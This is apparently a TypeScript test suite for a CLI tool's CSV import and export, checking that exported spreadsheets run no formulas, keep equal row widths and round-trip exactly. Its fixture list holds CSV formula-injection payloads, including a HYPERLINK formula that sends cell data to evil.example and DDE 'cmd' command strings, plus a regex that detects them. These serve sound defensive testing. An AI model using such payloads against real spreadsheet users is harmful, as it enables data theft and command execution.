/** What goes into spreadsheets: no formula runs, every row has the same cells, and an export imported again is the same to the byte. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Turf } from '../run-turf.js';
import { namesIn, stored } from './stored.js';
import { hostile } from './universal.js';

/** Each begins as Excel, LibreOffice or Google Sheets reads a formula or a command. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "''=1+1",
  '=x',
  '-',
  '+52 951 555 0100',
  '@vecinos_oax',
  ';=1+1',
  '"=1+1"',
  ',=1+1',
  '\u200b=1+1',
  'Año\n=1+1',
  '|calc',
  '%0A=1+1',
];

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

function list(names: readonly string[]): string {
  const rows = names.map((name, at) => `${quoted(name)},https://t.me/formula_group_${at},${at},${quoted(`${name} x`)}`);
  return `name,url,members,description\n${rows.join('\n')}\n`;
}

function cells(text: string): string[][] {
  return parse(text, { relax_column_count: true });
}

/** What a spreadsheet would run: after blanks and marks that it skips. */
const RUNS = /^[\s\u200b\ufeff]*[=@\t\r＝＋－＠]|^[\s\u200b\ufeff]*[+-]/;

async function exported(turf: Turf, words: readonly string[]): Promise<string> {
  const ran = await turf.run([...words, '--format', 'csv']);
  expect(ran.code).toBe(0);
  return ran.stdout;
}

describe('an export', () => {
  it.each([[['spaces']], [['map', '--all']]])('turf %s: no formula runs, as many cells in every row', (words) =>
    hostile(async (turf) => {
      await turf.run(['import', turf.write('a.csv', list(FORMULAS))]);
      const rows = cells(await exported(turf, words));
      expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
      expect(rows).toHaveLength(FORMULAS.length + 1);
      expect(rows.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
    }),
  );

  it.each([[['spaces']], [['map', '--all']]])(
    'turf %s imported again gives the same names and the same export',
    (words) =>
      hostile(async (turf) => {
        await turf.run(['import', turf.write('a.csv', list(FORMULAS)), '--as-of', '2026-01-01']);
        const first = await exported(turf, words);
        turf.write('again.csv', first);
        const again = await turf.run(['import', 'again.csv', '--db', 'again.db']);
        expect(again.code).toBe(0);
        expect([...namesIn(turf.path('again.db'))].sort()).toEqual([...namesIn(turf.db)].sort());
        expect([...stored(turf.path('again.db'))].map(({ key }) => key).sort()).toEqual(
          stored(turf.db)
            .map(({ key }) => key)
            .sort(),
        );
        const second = await exported(turf, [...words, '--db', 'again.db']);
        expect(second.split('\n').length).toBe(first.split('\n').length);
        if (words[0] === 'spaces') expect(second).toBe(first);
      }),
  );
});

it('a file that only looks like an export loses nothing of its names', () =>
  hostile(async (turf) => {
    await turf.run([
      'import',
      turf.write('a.csv', "name,url\n'Elm Road,https://t.me/quote_first\n'=1+1,https://t.me/quote_formula\n"),
    ]);
    expect(namesIn(turf.db)).toEqual(["'Elm Road", "'=1+1"]);
  }));

it('the rejects file is a spreadsheet too', () =>
  hostile(async (turf) => {
    const rows = FORMULAS.map((text) => `${quoted(text)},https://t.me/x_y_z_group,5,one too many`);
    turf.write('=a.csv', `name,url,"=members()"\nGood,https://t.me/good_group,5\n${rows.join('\n')}\n`);
    const ran = await turf.run(['import', '=a.csv']);
    expect(ran.code).toBe(3);
    const text = turf.read('=a.rejects.csv');
    const found = cells(text);
    expect(found.length).toBe(FORMULAS.length + 1);
    expect(found.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
    expect(text).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f]/);
  }));
